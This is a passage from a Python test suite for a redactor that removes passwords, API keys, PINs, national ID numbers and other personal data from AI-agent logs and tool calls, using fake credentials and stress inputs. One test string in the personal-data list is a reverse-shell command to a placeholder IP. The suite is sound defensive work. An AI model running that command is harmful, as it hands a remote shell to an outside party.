scp bob@db1:/var/log/syslog1 . && ssh git@github.com:org/Repo1.git
| Username | Password | Result |\n|---|---|---|\n| valid | invalid | error |\n| empty | empty | error |
| Method | Username | Password |\n|---|---|---|\n| Basic | supported | unsupported |
| Parameter | Value |\n|---|---|\n| password | required |\n| token | optional |
XXH3_SECRET_SIZE, XXH3_SECRET_MIN\nXXH3_128bits_reset, XXH3_64bits_reset
credentials:\n  provider: aws\n  region: eu-central1\n  profile: dev2
users:\n  bob: group1x\n  alice: editor
accounts = [("checking1", "1234abcd"), ("savings", "none")]
# passwords\nSee section 3 of the handbook.
"resnet50" "resnet101"
chpasswd < users.txt
class Password(String50): pass
database('dev', 'main', 'readonly'); AESCipher('AES-256-CBC')
pbkdf2_hmac('sha256', password, salt, 100000)
The login page took 350ms! See issue#42 in the password module; a C#8 login sample
password regex: ^(?=.*[A-Z])(?=.*\d)[A-Za-z\d!@#$]{8,}$
keepass database location: home folder backup
contact: bob@ ext1234
Subject: new password policy\n\nHello everyone
"""


def test_what_reads_like_a_question_a_table_or_a_list_of_passwords_and_is_none_stays() -> None:
    texts = [line.replace("\\n", "\n") for line in NOT_ASKED.strip("\n").split("\n")]
    assert [redacted for text in texts if (redacted := Redactor().redact(text)[0]) != text] == []


def test_what_is_typed_because_a_password_is_asked_for_is_found_in_the_call() -> None:
    call = {"action": "type", "text": "Sommer-2017", "reason": "enter the password"}
    assert "2017" not in str(Redactor().redact(call)[0])
    for other in ({"text": "laptop15", "reason": "search a laptop"}, {"text": "Next", "reason": "reset the password"}):
        assert Redactor().redact({"action": "type", **other})[0] == {"action": "type", **other}


PHRASES = """
PASSPHRASE={}\\nPORT=80\\nA=1
password: "{}"
--- {"password": "{}"} ---
| user | password |\\n|---|---|\\n| bob | {} |
passphrase    {}
<passphrase>{}</passphrase>
ALTER USER app WITH PASSWORD '{}';
$ cat /run/secrets/password\\n{}
>>> cfg["passphrase"]\\n'{}'
the password is {}
la contrase\u00f1a es {}
\u041f\u0430\u0440\u043e\u043b\u044c \u043e\u0442 \u043f\u043e\u0447\u0442\u044b \u2014 {}
password = \u201c{}\u201d
The password:\\n\\n```\\n{}\\n```
s.login('bob@x.org', '{}')
login: bob / {}
"""


def test_a_passphrase_of_plain_words_is_found_where_its_name_stands_and_leaves_later_texts() -> None:
    secret = "candle mountain velvet harbor"
    texts = [line.replace("\\n", "\n").replace("{}", secret) for line in PHRASES.strip("\n").split("\n")]
    assert [text for text in texts if "mountain" in Redactor().redact(text)[0]] == []
    assert "mountain" not in Redactor().redact([f"$ cat password.txt\n{secret}", f"I type {secret} now"])[0][1]


MARGINS: dict[str, Callable[[int, str], str]] = {
    "diff": lambda number, line: f"+{line}",
    "cat -n": lambda number, line: f"{number:6}\t{line}",
    "grep -n": lambda number, line: f"src/a-b.txt:{number}:{line}",
    "log": lambda number, line: f"2026-01-02T10:11:12.{number:03}Z  {line}",
    "compose": lambda number, line: f"web_1  | {line}",
    "quotation": lambda number, line: f"> {line}",
    "comment": lambda number, line: f"   // {line}",
    "box": lambda number, line: f"\u2502 {line:70} \u2502",
}
BELOW = (
    "$ cat db_password.txt\nSommer-2017\n$ ls",
    "id,user,password\n1,bob,Sommer-2017\n2,eve,x",
    'array(1) {\n  ["password"]=>\n  string(11) "Sommer-2017"\n}',
)


@pytest.mark.parametrize("margin", MARGINS)
def test_a_secret_below_its_name_is_found_behind_any_margin(margin: str) -> None:
    for text in BELOW:
        lines = [MARGINS[margin](number, line) for number, line in enumerate(text.split("\n"), 1)]
        redacted = Redactor().redact("\n".join(lines))[0].split("\n")
        assert "Sommer-2017" not in str(redacted)
        assert redacted[0] == lines[0]


def test_a_dump_of_bytes_that_hold_a_secret_is_replaced_as_a_whole() -> None:
    raw = b"user=bob db_password=Sommer-2017\n"
    dump = "\n".join(
        f"{at:08x}: {raw[at : at + 16].hex(' ', 2):39}  {raw[at : at + 16].decode().strip()}" for at in (0, 16, 32)
    )
    assert Redactor().redact(f"$ xxd f\n{dump}\nok")[0] == "$ xxd f\n<SECRET:encoded:1>\nok"
    clean = dump.replace("50", "51").replace("70", "71")
    assert "encoded" not in Redactor().redact(clean)[0]


@pytest.mark.parametrize("text", BELOW)
def test_a_secret_is_found_in_json_and_literals_within_other_texts(text: str) -> None:
    nested = orjson.dumps({"a": orjson.dumps({"b": orjson.dumps({"c": text}).decode()}).decode()}).decode()
    for carrier in (f"Result: {nested} done", repr([("out", text)]), f"open('f', 'w').write({text!r})"):
        assert "Sommer-2017" not in Redactor().redact(carrier)[0]


@pytest.mark.parametrize("result", ["{}", [{"type": "text", "text": "{}\n"}], '{"stdout": "{}", "code": 0}'])
@pytest.mark.parametrize("secret", ["Sommer2017", "candle mountain velvet"])
def test_what_a_call_prints_is_found_in_any_form_of_its_result(result: Any, secret: str) -> None:
    ours = {"id": "c", "type": "function", "function": {"name": "bash", "arguments": '{"command": "cat password.txt"}'}}
    theirs = {"type": "tool_use", "id": "c", "name": "bash", "input": {"command": "echo $DB_PASSWORD"}}
    filled = orjson.loads(orjson.dumps(result).decode().replace("{}", secret))
    chats = (
        [{"role": "assistant", "tool_calls": [ours]}, {"role": "tool", "tool_call_id": "c", "content": filled}],
        [
            {"role": "assistant", "content": [theirs]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "c", "content": filled}]},
        ],
    )
    for chat in chats:
        assert secret not in str(Redactor().redact(chat)[0])


@pytest.mark.parametrize(
    "text",
    [
        "entered PIN {} on the keypad",
        "Your PIN has been set to {}.",
        "door code is {}",
        "alarm disarmed with code {}",
        "enter code {} from the SMS",
        "authenticator shows {}, typing it in",
        "The PIN for the door is {}",
        "Code d'acc\u00e8s : {}",
        "Your Acme code: {}",
        "Dein Code lautet {}",
        "{} is your Acme verification code.",
        "Dein Best\u00e4tigungscode lautet {}",
        "Votre code de v\u00e9rification est {}",
        "Tu c\u00f3digo de verificaci\u00f3n es {}",
        "\u041a\u043e\u0434 \u043f\u043e\u0434\u0442\u0432\u0435\u0440\u0436\u0434\u0435\u043d\u0438\u044f: {}",
        "\u60a8\u7684\u9a8c\u8bc1\u7801\u662f{}",
        "\u6697\u8a3c\u756a\u53f7\u306f{}\u3067\u3059",
    ],
)
def test_codes_and_pins_are_found_beside_their_word_in_many_languages(text: str) -> None:
    assert "4711902" not in Redactor().redact(text.format("4711902"))[0]


@pytest.mark.parametrize(
    "text",
    [
        "error code 1045, exit code 1370, zip code 90210",
        "the PIN connector has 2 rows; OTP was chosen in 2019 by 1200 people",
        "mkdir -p build2024/x1 && ssh -p 2222 host1 && docker run -p 8080:80 node18",
        "mysql -p shop2024 asks for the password",
        "scp notes1.txt bob@host1:backup2024",
        "Passwort mit 8-12 Zeichen, mindestens 1 Ziffer",
        "use SHA256 as the password hash; argon2id is the password hasher",
        "unzip data2024.zip -d out1 && 7z l archive2024.7z",
        "Your order code: 123456; the password policy is NIST-800-63B",
        'password: "must contain letters and digits", "token": "session expired, log in again"',
        "Senha inv\u00e1lida: deve conter pelo menos {0} letra(s)",
        "the password is visible once clicked; the password to unlock restricted documents",
        "'password' => ['required', 'string', 'min:8', 'confirmed']",
        "<th>Password</th><td>Forgot yours?</td>",
        '["password"]=>\n2026-01-02T10:11:12.123Z  string(0) ""',
        'self.client.login(user="bob", password="password")\ncredentials = {"user": "bob", "password": "password"}',
        "cache key: 51aaa8c6e22d1a44fabf89086cc0cadb2f35ff3b",
        "rex_int:51aaa8c6e22d1a44fabf89086cc0cadb2f35ff3b image_id:51aaa8c6e22d1a44fabf89086cc0cadb2f35ff3b",
    ],
)
def test_flags_codes_and_names_of_other_things_are_no_passwords(text: str) -> None:
    assert Redactor().redact(text)[0] == text


def test_a_key_behind_a_name_and_a_colon_is_found() -> None:
    rng = random.Random(31)
    secrets = [
        f"{name}:{benchmark.filled(body, rng)}"
        for name in ("acme_live", "bot-zeta")
        for body in ("{h40}", "{a26}", "{A32}")
    ]
    assert [one for one in secrets if benchmark.leaks(one, benchmark.stored(f"it printed {one} then"))] == []


ORDINARY = st.one_of(
    st.dates().map(str),
    st.times().map(lambda time: time.isoformat("seconds")),
    st.tuples(st.integers(1, 99), st.integers(10, 99), st.integers(0, 999)).map(
        lambda parts: "{}.{}.{}".format(*parts)
    ),
    st.sampled_from(("localhost", "db.internal", "cache")).flatmap(
        lambda host: st.integers(1000, 65535).map(lambda port: f"{host}:{port}")
    ),
    st.lists(st.sampled_from(("src", "main", "tests", "Users", "lib", "data2", "reports")), min_size=2, max_size=5).map(
        "/".join
    ),
    st.sampled_from(("main", "app", "config", "report-final")).flatmap(
        lambda stem: st.sampled_from(("py", "json", "yaml", "txt")).map(lambda end: f"{stem}.{end}")
    ),
    st.sampled_from(("user_name", "python", "step-two")).flatmap(
        lambda name: st.integers(0, 9).map(lambda n: f"{name}_{n}")
    ),
    st.text("abcdefghijklmnopqrstuvwxyz_ -", min_size=6, max_size=24),
    st.integers(0, 999_999_999).map(str),
)


@settings(max_examples=150)
@given(ORDINARY)
def test_what_stands_in_many_texts_is_taken_out_of_none_because_one_calls_it_a_password(value: str) -> None:
    other = f"look at {value} again"
    alone = Redactor().redact(other)[0]
    assert Redactor().redact([{"password": value}, other])[0][1] == alone


@settings(max_examples=50)
@given(st.sampled_from(("Sommer", "purple", "Falcon", "hunter")), st.integers(10, 9999), st.sampled_from("!?#$"))
def test_a_password_leaves_every_text_of_its_session(word: str, number: int, mark: str) -> None:
    value = f"{word}{number}{mark}"
    assert value not in Redactor().redact([{"password": value}, f"I type {value} now"])[0][1]


def test_a_password_of_marks_leaves_every_text_of_its_session() -> None:
    value = "q7[Rv2(kT=x9{Lm4"
    texts = Redactor().redact([{"password": value}, f"I type {value} now", f'{{"text": "{value}"}}'])[0]
    assert texts == [
        {"password": "<SECRET:password:1>"},
        "I type <SECRET:password:1> now",
        '{"text": "<SECRET:password:1>"}',
    ]


def test_the_fields_behind_a_password_of_marks_stay() -> None:
    text = "Server=db;User Id=sa;Password=q7[Rv2(kT=x9{Lm4;Encrypt=True"
    assert Redactor().redact(text)[0] == "Server=db;User Id=sa;Password=<SECRET:password:1>;Encrypt=True"


@pytest.mark.parametrize("value", ["KmQxVzrTwPjc", "uYwKqjTRzbXfPLmdVhGs"])
def test_letters_without_order_leave_every_text_and_words_do_not(value: str) -> None:
    texts = [f"token = '{value}' | '{value}'", f"it is {value}", "token = 'nextPageToken'", "it is nextPageToken"]
    redacted = Redactor().redact(texts)[0]
    assert redacted == [
        "token = '<SECRET:password:1>' | '<SECRET:password:1>'",
        "it is <SECRET:password:1>",
        *texts[2:],
    ]


def test_what_a_call_returns_is_no_password_and_spreads_to_no_other_text() -> None:
    value = ['password=os.getenv("X")', 'host = os.getenv("HOST")', "token = get(", '{"password": "get("}']
    assert Redactor().redact(value)[0] == value


@pytest.mark.parametrize(
    "text",
    [
        "EM\u0160O: 0101006500006",
        "PESEL 44051401359",
        "CPF 390.533.447-05",
        "codice fiscale RCCMNL83S18D969H",
        "NI number AB 12 34 56 C",
        "AHV 756.9217.0769.85",
        "Aadhaar 2341 2341 2346",
        "hetu 131052-308T",
        "NHS 943 476 5919",
        "passport no. X1234567",
    ],
)
def test_numbers_of_people_are_found_by_their_form_or_their_name(text: str) -> None:
    redacted, counts = Redactor().redact(text)
    assert counts == {"national_id": 1}
    assert not any(char.isdigit() for char in redacted.replace("<PII:national_id:1>", ""))


def test_numbers_with_wrong_check_digits_are_nobodys() -> None:
    text = "EM\u0160O: 0101006500007, PESEL 44051401358, CPF 390.533.447-06, codice RCCMNL83S18D969A"
    assert Redactor().redact(text)[0] == text


def test_what_the_second_scanner_finds_is_replaced_and_public_ids_stay() -> None:
    text = "DISCORD_CLIENT_ID=265882841309679208 and MISTRAL=562N1ASHHWU6A978QSRUGWSGRSPME0Q9;"
    redacted, _ = Redactor().redact(text)
    assert "265882841309679208" in redacted
    assert "562N1ASHHWU6A978QSRUGWSGRSPME0Q9" not in redacted
    assert in_text(redacted) == []


def test_no_scanner_looks_into_what_another_one_found() -> None:
    text, counts = Redactor().redact("https://8477b0e5f6aae46b317613695606ff7e@o399098.ingest.example.io/12")
    assert text == "https://<SECRET:basic_auth:1>@o399098.ingest.example.io/12"
    assert counts == {"basic_auth": 1}


def test_the_same_value_gets_the_same_placeholder_within_a_session() -> None:
    redactor = Redactor()
    first, _ = redactor.redact("DB_PASSWORD=zebra!42 and mail ana@example.org")
    second, counts = redactor.redact({"command": "mysql -pzebra!42", "to": "ana@example.org", "cc": "eva@example.org"})
    assert first == "DB_PASSWORD=<SECRET:password:1> and mail <PII:email:1>"
    assert second == {"command": "mysql -p<SECRET:password:1>", "to": "<PII:email:1>", "cc": "<PII:email:2>"}
    assert counts == {"password": 1, "email": 2}


def test_what_the_last_text_names_is_gone_from_the_first_once_all_were_looked_at() -> None:
    texts = ["type zebra!42x", {"cmd": "mysql -pzebra!42x"}, "password=tiger!17y then OTHER_PASSWORD=zebra!42x"]
    redactor = Redactor()
    for text in texts:
        redactor.find(text)
    assert [redactor.redact(text)[0] for text in texts] == [
        "type <SECRET:password:1>",
        {"cmd": "mysql -p<SECRET:password:1>"},
        "password=<SECRET:password:2> then OTHER_PASSWORD=<SECRET:password:1>",
    ]


def test_what_one_process_finds_another_replaces_with_the_same_numbers() -> None:
    first, second = Redactor(), Redactor()
    first.find("PASSWORD=zebra!42x")
    second.find("SECRET=tiger!17yk8 and PASSWORD=zebra!42x")
    findings = [*first.findings, *second.findings]
    for _ in range(2):
        redactor = Redactor()
        redactor.learn(findings)
        assert redactor.redact("tiger!17yk8 zebra!42x")[0] == "<SECRET:password:2> <SECRET:password:1>"


def test_traces_keep_numbers_and_recognise_bare_values_but_hold_none(tmp_path: Path) -> None:
    key = partial(load_key, tmp_path / "key")
    before = Redactor(key)
    before.redact("PASSWORD=zebra!42x and mail ana@example.org, <SECRET:token:7>")
    assert "zebra" not in str(before.traces)
    after = Redactor(key, before.traces)
    value = "zebra!42x, eva@example.org, ana@example.org, TOKEN=zXk29QmWp7Rb4TnLs8Vd"
    redacted, _ = after.redact(value)
    assert redacted.startswith("<SECRET:password:1>, <PII:email:2>, <PII:email:1>, ")
    assert Redactor(None, before.traces).redact("zebra!42x")[0] == "zebra!42x"  # without the key they say nothing


def test_numbers_stay_numbers_so_that_a_call_still_fits_its_schema() -> None:
    value = {"pin": 4711, "otp": 98765432, "card": 4111111111111111, "x": 4711}
    redacted, counts = Redactor().redact(value)
    assert redacted == {"pin": 1000, "otp": 10000000, "card": 1000000000000000, "x": 4711}
    assert counts == {"password": 2, "credit_card": 1}
    assert Redactor().redact(redacted)[0] == redacted


def test_a_caller_gets_its_own_values_back_and_no_others() -> None:
    redactor = Redactor()
    redactor.redact("PASSWORD=tiger!17y")
    prompt, _, originals = redactor.redact_reversibly([{"password": 'a"b!42x'}, {"to": "ana@example.org"}])
    assert prompt == [{"password": "<SECRET:password:2>"}, {"to": "<PII:email:1>"}]
    arguments = '{"text": "<SECRET:password:2>", "to": "<PII:email:1>", "other": "<SECRET:password:1>"}'
    answer = restore({"content": "typed <SECRET:password:2>", "arguments": arguments}, originals)
    assert answer["content"] == 'typed a"b!42x'
    assert orjson.loads(answer["arguments"]) == {
        "text": 'a"b!42x',
        "to": "ana@example.org",
        "other": "<SECRET:password:1>",
    }


@pytest.mark.parametrize(
    ("value", "secret"),
    [
        ({"dbPassword": "onlyletters"}, "onlyletters"),
        ({"password": 12345678}, "12345678"),
        ({"passwords": ["onlyletters", "others"]}, "others"),
        ([{"name": "DB_PASSWORD", "value": "onlyletters"}], "onlyletters"),
        ({"Authorization": "Token Zx9kQ2mV7tRb"}, "Zx9kQ2mV7tRb"),
        ({"Cookie": "sessionid=Zx9kQ2mV"}, "Zx9kQ2mV"),
        ({"ana@example.org": 1}, "ana@"),
        ({"auth": "Ym9iOkh1bnRlcjJob3JzZQ=="}, "Ym9i"),
        ({"card": 4111111111111111}, "4111"),
        ({"phone_number": 38641123456}, "38641"),
        ({"arguments": '["x", "--api-key", "onlyletters"]'}, "onlyletters"),
        ([["region", "eu"], ["ftp_password", "Zx9kQ2mV"]], "Zx9kQ2mV"),
        ({"action": "input_text", "label": "Acme Token", "text": "b543bf83c632cca783f5add7482d5d46"}, "b543bf83"),
        ([["Authorization", "Basic Ym9iOkh1bnRlcjJob3JzZQ=="], ["Host", "x"]], "Ym9i"),
        ({"rawHeaders": ["Host", "x", "X-Api-Key", "b543bf83c632cca783f5add7482d5d46"]}, "b543bf83"),
        ({"billing_api_key": "d228c26f-cc3a-43c3-a8ba-813a8d59b711"}, "d228c26f"),
        ({"Key": "DB_PASSWORD", "Value": "onlyletters"}, "onlyletters"),
        ({"action": "type", "element": "Password input", "text": "onlyletters"}, "onlyletters"),
        ({"name": "browser_type", "arguments": '{"selector": "#login-password", "text": "Zx9kQ2mV"}'}, "Zx9kQ2mV"),
        ({"cmd": ["mysql", "-u", "root", "-pZx9kQ2mV7tRb"]}, "Zx9kQ2mV7tRb"),
        ({"cmd": ["sshpass", "-p", "Zx9kQ2mV7tRb", "ssh", "x", "echo done"]}, "Zx9kQ2mV7tRb"),
        ({"argv": ["curl", "-u", "bob:Zx9kQ2mV7tRb", "https://x"]}, "Zx9kQ2mV7tRb"),
        ({"action": "fill", "args": ["#password", "onlyletters"]}, "onlyletters"),
        ({"name": "type", "arguments": {"into": "password", "text": "onlyletters"}}, "onlyletters"),
        ({"secret": {"value": "onlyletters"}}, "onlyletters"),
        ({"credentials": {"bob": "q78Hp7twaxDF"}}, "q78Hp7twaxDF"),
        ({"api": {"key": "b543bf83c632cca783f5add7482d5d46"}}, "b543bf83"),
        ({"headers": [["X-Api-Key", "b543bf83c632cca783f5add7482d5d46"], ["Accept", "*/*"]]}, "b543bf83"),
        ({"headers": [["Accept", "*/*"], ["X-Api-Key", "b543bf83c632cca783f5add7482d5d46"]]}, "b543bf83"),
        ([["token", "of"], ["x", "sk-ant-api03-q78Hp7twaxDFq78H"]], "q78Hp7"),
        ([["api_key", "sk-ant-api03-q78Hp7twaxDFq78H"]], "q78Hp7"),
        ({"recoveryCodes": ["7cm1f-6j3fs"], "mot_de_passe": "x"}, "7cm1f"),
        ({"securityAnswer": "onlyletters"}, "onlyletters"),
        ({"code": "document.getElementById('pw').value='tNl0JSpAQv'"}, "tNl0JSpAQv"),
        ({"fields": [{"name": "Password", "type": "textbox", "value": "onlyletters"}]}, "onlyletters"),
        ({"tool": "fill", "selector": "#pw", "value": "onlyletters"}, "onlyletters"),
        ({"type": "random_password", "attributes": {"length": 11, "result": "onlyletters", "special": True}}, "only"),
        ([tool_answer("bash", {"cmd": "cat password.txt"}), {"role": "tool", "content": "pepper1987"}], "pepper1987"),
    ],
)
def test_the_name_of_a_member_tells_what_its_value_is(value: object, secret: str) -> None:
    assert is_suspicious(orjson.dumps(value))
    assert secret not in orjson.dumps(Redactor().redact(value)[0]).decode()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("4111 1111 1111 1111", "1111"),
        ("3782 822463 10005", "822463"),
        ("tel. 041 123 456", "123"),
        ("07911 123456", "123456"),
        ("+44 (0)20 7946 0958", "7946"),
        ("01 70 18 99 00", "18"),
        ("(11) 91234-5678", "5678"),
        ("1-800-555-0199", "0199"),
        ("ana@ex\u00e4mple.de", "ana"),
        ("ana.novak%40example.org", "novak"),
        ("GB29 NWBK 6016 1331 9268 19", "6016"),
        ("AT61 1904 3002 3457 3201 odprt", "1904"),
        ("iban=de89370400440532013000", "3704"),
        ("4111\u00a01111\u00a01111\u00a01111", "1111"),
        ("0038641123456", "38641"),
        ("host_203.0.113.9_x", "203.0"),
        ("123-45-6789", "6789"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444", "203.0"),
        (r"C:\Users\Jan Novak\Documents", "Novak"),
        ("jnovak@laptop:~/vault$ ls", "jnovak"),
        ("uid=1000(jnovak) gid=1000(jnovak)", "jnovak"),
    ],
)
def test_personal_data_of_many_countries_is_found(text: str, left: str) -> None:
    redacted, counts = Redactor().redact(f"see {text} there")
    assert left not in redacted
    assert counts.total() >= 1


@pytest.mark.parametrize(
    "text", ["\ud800 password=Zx9kQ2mV\udfff", "\udcff ana@example.org", '{"password": "\ud800Zx9k"}']
)
def test_half_of_a_surrogate_pair_stops_nothing(text: str) -> None:
    redacted, counts = Redactor().redact(text)
    assert counts.total() == 1
    assert "Zx9k" not in redacted


@pytest.mark.parametrize(
    "value",
    [
        {"password": {"label": "Password", "text": "Password", "value": ""}},
        {"license": {"key": "apache-2.0", "name": "Apache License 2.0", "spdx_id": "Apache-2.0"}},
        {"issue": {"key": "PROJ-987"}, "event": {"key": "ArrowLeft"}, "tokens": {"prompt": 12}},
        {"secrets": [{"name": "DB_PASSWORD", "created_at": "2025-11-12T18:21:11Z"}]},
        {"credentials": {"type": "service_account", "project_id": "my-project-123456"}},
        {"cmd": ["docker", "run", "-p", "8080:80", "-u", "1000:1000", "nginx:1.27"]},
        {"rows": [["password", "changed_2024"], ["", "yes"]], "pair": ["token", "field_of_form_2"]},
        {"cmd": ["grep", "-rn", "password", "src2/"], "args": ["#password-field", "#submit-button2"]},
        {"action": "click", "element": "Show password button", "text": "x1y2z3ab"},
        {"password": "Passwort vergessen?", "text": "yes2025", "label": "Remember my password"},
        [["token", "int64"], ["api_key", "string"], ["secret", "sha256"], ["pass", "x86_64"]],
        {"rawHeaders": ["Etag", "b543bf83c632cca783f5add7", "Primary-Key", "b543bf83c632cca783f5add7482d5d46"]},
    ],
)
def test_members_that_say_nothing_stay(value: object) -> None:
    assert Redactor().redact(value)[0] == value


def test_a_secret_named_late_in_a_turn_is_gone_from_its_start_too(tmp_path: Path) -> None:
    lines = [call("s", 0, "type zebra!42 into the box", "done"), call("s", 1, "type zebra!42", "ok, password=zebra!42")]
    write_lines(tmp_path / "logs" / "a.jsonl", [lines[1]])
    run(tmp_path / "logs", tmp_path / "out")
    assert "zebra" not in turns(tmp_path / "out")[0]["prompt"]


def test_a_secret_named_by_a_later_turn_is_gone_from_the_earlier_ones_too(tmp_path: Path) -> None:
    lines = [call("s", 0, "the box is open", tool_answer("computer", {"text": "zebra!42"})), call("t", 0, "a", "b")]
    lines.append(call("s", 1, "saved as password=zebra!42", "ok"))
    write_lines(tmp_path / "logs" / "a.jsonl", lines)
    report = run(tmp_path / "logs", tmp_path / "out")
    first, later = (turn for turn in turns(tmp_path / "out") if turn["session_id"] == "s")
    assert "<SECRET:password:1>" in first["completion"]
    assert "<SECRET:password:1>" in later["prompt"]
    assert report.redactions == {"password": 2}


def test_a_result_of_one_word_is_secret_where_its_call_says_so(tmp_path: Path) -> None:
    line = call("s", 0, "read both", "done")
    calls = tool_answer("bash", {"cmd": "pass show web/shop"}, "a")
    calls["tool_calls"] += tool_answer("bash", {"cmd": "git rev-parse HEAD"}, "b")["tool_calls"]
    commit = "9c1185a5c5e9fc54612808977ee8f548b2258d31"
    results = [{"role": "tool", "tool_call_id": "b", "content": commit}]
    results.append({"role": "tool", "tool_call_id": "a", "content": "Walrus-Paris-42\n"})
    line["request"]["messages"] += [calls, *results]
    write_lines(tmp_path / "logs" / "a.jsonl", [line])
    run(tmp_path / "logs", tmp_path / "out")
    (turn,) = turns(tmp_path / "out")
    assert [one["content"] for one in orjson.loads(turn["prompt"])[-2:]] == [commit, "<SECRET:password:1>\n"]


def test_who_is_blamed_is_stored_without_personal_data(tmp_path: Path) -> None:
    blame = {"agent": "ana@example.org", "reason": "x"}
    write_lines(tmp_path / "logs" / "a.jsonl", [call("s", 0, "p", "a", outcome={"status": "failure", "blame": blame})])
    run(tmp_path / "logs", tmp_path / "out")
    assert "ana@" not in (tmp_path / "out" / "manifest.json").read_text()


def test_screenshots_are_dropped_and_counted(tmp_path: Path) -> None:
    picture = "iVBORw0KGgo" + "A" * 4000
    parts = [
        {"type": "image_url", "image_url": {"url": f"data:image/png;base64,{picture}"}},
        {"type": "text", "text": "see"},
    ]
    line = call("s", 0, "", "ok")
    line["request"]["messages"] = [
        {"role": "user", "content": parts},
        {"role": "user", "content": f"shot: {picture[:100]}"},
    ]
    write_lines(tmp_path / "logs" / "a.jsonl", [line])
    report = run(tmp_path / "logs", tmp_path / "out")
    assert report.screenshots_dropped == 2
    assert "iVBOR" not in turns(tmp_path / "out")[0]["prompt"]


def test_what_is_nested_too_deep_is_refused() -> None:
    value: object = "x"
    for _ in range(200):
        value = [value]
    with pytest.raises(TooDeepError):
        Redactor().redact(value)


def test_prose_does_not_pass_the_prefilter() -> None:
    assert not is_suspicious(b"The quick brown fox jumps over the lazy dog, and then it sleeps (for an hour).")


@settings(max_examples=300)
@given(st.sampled_from(planted(seed=9, each=2)), st.text(max_size=30), st.text(max_size=30))
def test_what_a_detector_finds_the_prefilter_never_misses(case: tuple[str, str, str], before: str, after: str) -> None:
    text = f"{before}{case[2]}{after}"
    found = [
        one
        for one in detectors.detectors()
        if any(one.accept is None or one.accept(m) for m in detectors.matches(one, text))
    ]
    assert set(found) <= set(detectors.candidates(text))
    assert bool(found) <= is_suspicious(text.encode())


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_redaction_is_stable_when_repeated(value: object) -> None:
    once, _ = Redactor().redact(value)
    assert Redactor().redact(once)[0] == once


def test_the_second_scan_is_silent_after_redaction_and_finds_secrets_where_there_was_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = planted(seed=6, each=1)
    write_lines(tmp_path / "logs" / "a.jsonl", [call(f"s{n}", 0, text, "ok") for n, (_, _, text) in enumerate(secrets)])
    run(tmp_path / "logs", tmp_path / "redacted")
    assert list(surviving_secrets(tmp_path / "redacted")) == []
    monkeypatch.setattr(table, "is_suspicious", lambda text: False)
    run(tmp_path / "logs", tmp_path / "raw")
    found = list(surviving_secrets(tmp_path / "raw"))
    assert len({secrets[finding["line"] - 1][0] for finding in found}) >= 10
    assert not any(secret in str(found) for _, secret, _ in secrets)
    assert list(surviving_secrets(tmp_path / "raw", days=["1999-01-01"])) == []


@pytest.mark.parametrize(
    "text",
    [
        "mail a@b.org " + "x" * 300_000,
        "5:" + "deadbeef" * 20_000 + "g 1::2:3",
        "-----BEGIN PRIVATE KEY-----\n" * 5_000,
        "password=" * 30_000,
        'token="' * 30_000,
        "://a:b" * 30_000 + " ://u:p@h",
        "+1 " * 50_000 + "4" * 50_000,
        "key " + "AC" * 100_000,
        "/home/" + "a" * 200_000,
        "curl \\\n" * 30_000,
        ("A" * 64 + "\n") * 5_000 + "-----END PRIVATE KEY",
        "password a\n" * 30_000,
        "ldapsearch zip -" * 15_000,
        'type "a" ' * 30_000,
        "drwxr-xr-x 1 a " * 20_000,
        "name: token\n" * 20_000,
        "\x1b[" * 100_000 + "a:5432:b:c:" * 20_000,
        "type='password' " * 15_000,
        "\\" * 200_000,
        "eyJ" * 100_000,
        repr(["password", "x"] * 10_000),
        "a=" + "+b" * 100_000,
        'passwords = ["' * 10_000,
        'passwords = ["' + '"kelp", ' * 20_000,
        "passwords:\n - a\n" * 10_000,
        'a, b = "x", ' * 20_000,
        "token, " * 40_000 + '= "x", "y"',
    ],
)
def test_hostile_text_is_redacted_in_linear_time(text: str) -> None:
    started = time.process_time()  # of this process alone, however busy the machine is
    Redactor().redact(text)
    assert time.process_time() - started < 3


REST = "0a1b2c3d4e5f60718293a4b5c6d7e8f9"
OPAQUE = "c2f7a91e-0b6d-4835-a1f0-9a7c5d3b8264"
UNNAMED = "c2f7a91e0b6d4835e1f09a7c5d3b8264"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        # a rule that knows an older, shorter form of a key
        ("k = 'sk_live_66iu1s3ue4dl2cyQvWnQyou3BbX-HDWLyQycovuzONOGI3CeTktD582ESNXL'", "BbX-HDWLyQycovuzONOGI3CeTktD"),
        # a Base64 key up to its first + or /
        (
            "use IPRBriQy9rYCjyORwojLR5FvZOUe0zQeabef3Jd/BRQAStACDbw09AwB1k+Zt8uQ4mHcVn2xL5eT==",
            "w09AwB1k+Zt8uQ4mHcVn2x",
        ),
        # the address of a hook, from its first random segment to its end
        ("POST https://hooks.zapier.com/hooks/catch/75886841/vikp3gk/", "vikp3gk"),
        (f"https://x.webhook.office.com/webhookb2/{uuid.UUID(REST)}@{uuid.UUID(REST)}/IncomingWebhook/{REST}/1", REST),
        ("curl https://chat.acme.example/hooks/f3k9w1xq7zt5m8n2c4v6b0a1sd", "f3k9w1xq7zt5m8n2c4v6b0a1sd"),
        # bodies in several parts, behind one letter, or without a separator
        (
            "dnkey-g4cojp76qchbo4pggdzn7ytuak-mb9pny3qz0d015hmpz1cdl83nclpfuth8lvq2w4e6r8t0y1u3i5o",
            "mb9pny3qz0d015hmpz1cdl83nclpfuth",
        ),
        ("b_d8hvzrf46e1cwzljm7orn9wo2zj6j8qbtrrq5z8f9lct", "d8hvzrf46e1cwzljm7orn9wo2zj6j8qb"),
        (f"use ATTA{REST}{REST} now", REST),
        # what a person chose, beside the name of a key; flags, cells and attributes with a telling name
        ('{"config": {"refresh_token": "Summer8548!"}}', "Summer8548!"),
        (f"python app.py --admin-pw {REST} --verbose", REST),
        (f"python app.py --encryptionkey {REST} --verbose", REST),
        ("| Setting | Value |\n|---|---|\n| ADMIN_PW | 3V7F3Kz5Vz |", "3V7F3Kz5Vz"),
        ('<add key="REDIS_AUTH" value="3voZHtnweE"/>', "3voZHtnweE"),
        ('<div data-apitoken="U68zczalKj7w" class="b">', "U68zczalKj7w"),
        # a value of a provider's rule that ends at an escaped quote or line break
        (repr({"stdout": 'netlify = "ydtr14t05tkres4v73dgj82q1qmpyvifmarvfq2d0z" \'\n'}), "ydtr14t05tkres4v73dgj82q1q"),
